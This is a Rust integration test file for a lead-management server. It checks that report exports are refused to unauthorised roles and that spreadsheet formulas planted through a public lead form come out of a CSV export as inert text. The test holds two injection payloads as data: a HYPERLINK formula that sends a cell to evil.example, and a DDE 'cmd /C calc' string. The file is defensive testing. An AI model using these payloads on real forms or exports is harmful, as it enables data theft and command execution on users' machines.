//! Issue 34, "hostile files and access seams": what a file, a header or a link planted by
//! someone else cannot make the server do.

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::helpers::{TestApp, assert_error, spawn_app};

impl TestApp {
    /// Exports a report as `token`, waits for the run to succeed and returns it.
    async fn finished_export(&self, token: &str, kind: &str, body: Value) -> Value {
        let run = self
            .ok_json(
                Method::POST,
                &format!("/api/reports/{kind}/export"),
                token,
                Some(body),
            )
            .await;
        let id = run["id"].as_i64().unwrap();
        let detail = self.wait_until_final(token, id).await;
        assert_eq!(detail["run"]["status"], "succeeded", "{detail}");
        detail["run"].clone()
    }
}

#[tokio::test]
async fn an_export_file_is_only_for_those_who_may_read_its_report() {
    // Arrange: the administrators' sign-in list, exported for the sales rep's own store.
    let app = spawn_app().await;
    let admin = app.token_of("enterprise-admin").await;
    let rep = app.token_of("sales-rep").await;
    let manager = app.token_of("office-manager").await;
    let run = app
        .finished_export(
            &admin,
            "login-activity",
            json!({ "format": "CSV", "storeIds": [1] }),
        )
        .await;
    let url = run["result"]["downloadUrl"].as_str().unwrap().to_owned();
    let file = app.get(&url, Some(&admin)).await;
    assert_eq!(file.status(), StatusCode::OK);
    assert!(file.text().await.unwrap().contains("enterprise-admin"));

    // Act and assert: the report's own roles decide, for the file as for running it.
    for token in [&rep, &manager] {
        assert_error(
            app.post_json("/api/reports/login-activity", token, &json!({}))
                .await,
            StatusCode::FORBIDDEN,
        )
        .await;
        let refused = app.get(&url, Some(token)).await;
        assert_eq!(refused.status(), StatusCode::FORBIDDEN);
        let body = refused.text().await.unwrap();
        assert!(!body.contains("enterprise-admin"), "{body}");
    }
}

#[tokio::test]
async fn a_formula_planted_in_a_public_form_comes_out_of_a_csv_export_as_text() {
    // Arrange: a web-form lead whose first name is a live formula, texted by the assistant.
    let app = spawn_app().await;
    let admin = app.token_of("enterprise-admin").await;
    let form: Value = app
        .client
        .get(app.url("/api/public/lead-forms/lead-submission-toyota"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let planted = r#"=HYPERLINK("http://evil.example/?p="&E2,"Open")&"#;
    let submitted = app
        .client
        .post(app.url("/api/public/lead-submission"))
        .json(&json!({
            "form": form["slug"],
            "firstName": planted,
            "lastName": "@SUM(1+1)*cmd|' /C calc'!A0",
            "customerPhoneNumber": "+15557149901",
            "storePhoneNumber": form["storePhoneNumber"],
            "consentText": form["consentText"],
            "message": "The brakes squeak",
            "website": "",
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(submitted.status(), StatusCode::OK);

    // Act: the not-responded list of today, as CSV, once the greeting is on record.
    let today = chrono::Utc::now().date_naive().to_string();
    let window = json!({ "storeIds": [1], "startDate": today, "endDate": today });
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let listed = app
            .ok_json(
                Method::POST,
                "/api/reports/not-responded",
                &admin,
                Some(window.clone()),
            )
            .await;
        if listed.to_string().contains("HYPERLINK") {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "{listed}");
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let mut body = window.clone();
    body["format"] = json!("CSV");
    let run = app.finished_export(&admin, "not-responded", body).await;
    let file = app
        .get(run["result"]["downloadUrl"].as_str().unwrap(), Some(&admin))
        .await;
    assert_eq!(file.status(), StatusCode::OK);
    let bytes = file.bytes().await.unwrap();

    // Assert: the name is there, as text a spreadsheet will not run; no cell starts a formula.
    let mut reader = csv::Reader::from_reader(bytes.as_ref());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    assert!(
        cells.iter().any(|c| c.contains(&format!("'{planted}"))),
        "{cells:?}"
    );
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '@', '\t', '\r'])
                && (!cell.starts_with(['+', '-']) || cell.parse::<f64>().is_ok()),
            "a live formula: {cell:?}"
        );
    }
}
